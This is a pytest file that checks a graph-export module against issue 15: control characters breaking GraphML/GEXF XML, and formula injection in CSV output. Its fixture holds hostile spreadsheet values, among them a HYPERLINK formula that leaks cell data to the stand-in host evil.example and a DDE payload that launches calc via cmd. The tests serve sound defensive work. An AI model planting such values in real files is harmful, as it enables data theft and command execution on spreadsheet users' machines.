"""Exports defend the tools that open them (issue 15): control characters made GraphML and
GEXF malformed XML, and `=HYPERLINK(…)` cells reached spreadsheets as formulas."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET

import networkx as nx
import pytest

from graph import exports

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def hostile_graph() -> nx.MultiDiGraph:
    G = nx.MultiDiGraph()
    G.add_node("org.a", kind="Organisation", name="Org\x00with\x1b[31mcontrols\ufffe",
               description=FORMULA, aliases=["@SUM(A1)", "plain"], budget=-5.0)
    G.add_node("org.b", kind="Organisation", name="+cmd|' /C calc'!A0")
    G.add_edge("org.a", "org.b", key="rel.1", type="PARTNER_OF", note="-2+3\x0b")
    return G


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_xml_exports_parse_whatever_the_names_hold(fmt: str) -> None:
    root = ET.fromstring(exports.render(hostile_graph(), fmt))
    # GraphML keeps values as element text, GEXF as attributes: look at both.
    texts = " ".join([*root.itertext(), *(v for el in root.iter() for v in el.attrib.values())])
    assert "Org\ufffdwith\ufffd[31mcontrols\ufffd" in texts
    assert FORMULA in texts  # XML is not a spreadsheet: the text stays as it is


def test_csv_exports_neutralise_formulas_and_keep_numbers() -> None:
    G = hostile_graph()
    nodes = list(csv.DictReader(io.StringIO(exports.render(G, "csv").decode())))
    by_id = {row["id"]: row for row in nodes}
    assert by_id["org.a"]["description"] == "'" + FORMULA
    assert by_id["org.a"]["aliases"] == "'@SUM(A1); plain"
    assert by_id["org.a"]["budget"] == "-5.0"
    assert by_id["org.b"]["name"] == "'+cmd|' /C calc'!A0"
    [edge] = csv.DictReader(io.StringIO(exports.render(G, "csv", part="edges").decode()))
    assert edge["note"].startswith("'-2+3")
